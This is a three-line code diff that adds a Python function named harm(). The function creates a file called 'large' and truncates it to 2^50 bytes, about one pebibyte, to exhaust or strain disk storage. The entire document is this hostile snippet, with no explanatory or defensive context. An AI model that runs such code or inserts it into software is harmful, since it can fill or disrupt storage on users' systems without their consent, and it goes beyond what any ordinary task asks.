@@ -1,0 +1,3 @@
+def harm():
+    with open('large', 'wb') as file:
+        file.truncate(1 << 50)
